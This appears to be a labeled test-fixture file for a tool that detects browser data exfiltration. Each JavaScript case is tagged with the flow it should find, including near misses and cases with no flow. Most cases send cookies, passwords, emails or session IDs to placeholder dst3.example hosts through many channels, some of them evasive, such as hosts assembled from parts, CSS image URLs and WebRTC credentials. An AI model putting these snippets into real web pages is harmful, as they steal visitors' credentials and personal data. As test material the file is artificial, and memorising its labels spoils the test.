//# url-by-setters
// flow: email > set.dst3.example via fetch
const u1 = new URL('https://set.dst3.example');
u1.pathname = '/collect';
u1.searchParams.set('e', document.querySelector('input[type=email]').value);
fetch(u1);

//# url-host-replaced
// flow: email > new.dst3.example via fetch
// why: near miss: the host of the constructor is replaced before the request
const u2 = new URL('https://old.dst3.example/p');
u2.hostname = 'new.dst3.example';
u2.searchParams.append('e', document.querySelector('input[type=email]').value);
fetch(u2.href);

//# protocol-relative
// flow: identifier > rel.dst3.example via image
new Image().src = '//rel.dst3.example/p.gif?c=' + encodeURIComponent(document.cookie);

//# request-object
// flow: phone > req.dst3.example via fetch
const r4 = new Request('https://req.dst3.example/', { method: 'POST', body: document.querySelector('input[type=tel]').value });
fetch(r4);

//# header-set
// flow: identifier > hdr.dst3.example via fetch
const h5 = new Headers();
h5.set('X-Session', localStorage.getItem('sid'));
fetch('https://hdr.dst3.example/', { headers: h5 });

//# beacon-with-blob
// flow: message > blob.dst3.example via beacon
const b6 = new Blob([JSON.stringify({ m: document.querySelector('textarea[name=message]').value })], { type: 'application/json' });
navigator.sendBeacon('https://blob.dst3.example/', b6);

//# css-background
// flow: email > css.dst3.example via css
document.body.style.backgroundImage = `url("https://css.dst3.example/b?e=${document.querySelector('input[type=email]').value}")`;

//# css-image-set
// flow: identifier > iset.dst3.example via css
const el8 = document.createElement('div');
el8.style.setProperty('background', `image-set("https://iset.dst3.example/a?c=${encodeURIComponent(document.cookie)}" 1x)`);
document.body.append(el8);

//# srcset
// flow: email > sset.dst3.example via image
const i9 = document.createElement('img');
i9.srcset = 'https://sset.dst3.example/a?e=' + document.querySelector('input[type=email]').value + ' 2x';

//# location-assign
// flow: search > loc.dst3.example via navigation
location.assign('https://loc.dst3.example/?q=' + document.querySelector('input[type=search]').value);

//# window-open
// flow: search > open.dst3.example via open
window.open('https://open.dst3.example/?q=' + document.querySelector('input[type=search]').value, '_blank');

//# dynamic-import
// flow: identifier > imp.dst3.example via import
import('https://imp.dst3.example/m.js?c=' + encodeURIComponent(document.cookie));

//# event-source
// flow: identifier > es.dst3.example via eventsource
new EventSource('https://es.dst3.example/s?u=' + localStorage.getItem('uid'));

//# form-made-and-submitted
// flow: password > form.dst3.example via form
const f14 = document.createElement('form');
f14.method = 'POST';
f14.action = 'https://form.dst3.example/';
const in14 = document.createElement('input');
in14.name = 'p';
in14.value = document.querySelector('input[type=password]').value;
f14.appendChild(in14);
document.body.appendChild(f14);
f14.submit();

//# ping-attribute
// flow: identifier > ping.dst3.example via ping
const a15 = document.querySelector('a.out');
a15.ping = 'https://ping.dst3.example/?u=' + localStorage.getItem('uid');

//# ice-servers
// flow: identifier > ice.dst3.example via webrtc
new RTCPeerConnection({ iceServers: [{ urls: 'turn:ice.dst3.example:3478', username: localStorage.getItem('uid'), credential: 'x' }] });

//# meta-refresh
// flow: search > meta.dst3.example via navigation
const m17 = document.createElement('meta');
m17.httpEquiv = 'refresh';
m17.content = '0;url=https://meta.dst3.example/?q=' + document.querySelector('input[type=search]').value;
document.head.appendChild(m17);

//# prefetch-link
// flow: identifier > pre.dst3.example via link
const l18 = document.createElement('link');
l18.rel = 'prefetch';
l18.href = 'https://pre.dst3.example/x?u=' + localStorage.getItem('uid');
document.head.append(l18);

//# worker-by-url
// flow: identifier > wrk.dst3.example via worker
new Worker('https://wrk.dst3.example/w.js?u=' + localStorage.getItem('uid'));

//# host-from-parts
// flow: email > a.part.dst3.example via fetch
const region = 'a';
const host20 = [region, 'part', 'dst3', 'example'].join('.');
fetch('https://' + host20 + '/', { method: 'POST', body: document.querySelector('input[type=email]').value });

//# host-from-class-field
// flow: email > cls.dst3.example via fetch
class Api21 {
  constructor(host) { this.base = `https://${host}`; }
  post(path, body) { return fetch(this.base + path, { method: 'POST', body }); }
}
new Api21('cls.dst3.example').post('/v1', document.querySelector('input[type=email]').value);

//# host-chosen-by-table
// flow: email > eu.dst3.example via fetch
const hosts22 = { eu: 'https://eu.dst3.example', us: 'https://us.dst3.example' };
const send22 = (zone, body) => fetch(hosts22[zone] + '/in', { method: 'POST', body });
send22('eu', document.querySelector('input[type=email]').value);

//# default-host-replaced
// flow: phone > mine.dst3.example via fetch
// why: near miss: the default is replaced by what the caller gives
function make23({ host = 'def.dst3.example' } = {}) { return (b) => fetch('https://' + host + '/', { method: 'POST', body: b }); }
make23({ host: 'mine.dst3.example' })(document.querySelector('input[type=tel]').value);

//# host-reassigned
// flow: phone > fin.dst3.example via fetch
// why: near miss: the variable holds another host when the request is made
let url24 = 'https://start.dst3.example/';
url24 = 'https://fin.dst3.example/';
fetch(url24, { method: 'POST', body: document.querySelector('input[type=tel]').value });

//# tagged-template
// flow: search > tag.dst3.example via fetch
const url25 = (s, ...v) => s.reduce((o, x, i) => o + x + (i < v.length ? encodeURIComponent(v[i]) : ''), '');
fetch(url25`https://tag.dst3.example/?q=${document.querySelector('input[type=search]').value}`);

//# axios-instance
// flow: email > ax.dst3.example via http
const api26 = axios.create({ baseURL: 'https://ax.dst3.example' });
api26.post('/lead', { email: document.querySelector('input[type=email]').value });

//# base-element
// flow: search > base.dst3.example via fetch
const base27 = document.createElement('base');
base27.href = 'https://base.dst3.example/';
document.head.prepend(base27);
fetch('find?q=' + document.querySelector('input[type=search]').value);

//# link-not-followed
// no flow
// why: the address of a link is not fetched until somebody clicks it, and here it has no data
const a28 = document.createElement('a');
a28.href = 'https://lnk.dst3.example/';
document.body.append(a28);
console.log(document.querySelector('input[type=search]').value.length);

//# fragment-only
// no flow
// why: a fragment stays in the browser
new Image().src = 'https://frag.dst3.example/p.gif#' + document.cookie;

//# aborted-xhr-never-sent
// no flow
// why: open() without send() asks for nothing
const x30 = new XMLHttpRequest();
x30.open('GET', 'https://xhr0.dst3.example/?c=' + document.cookie);
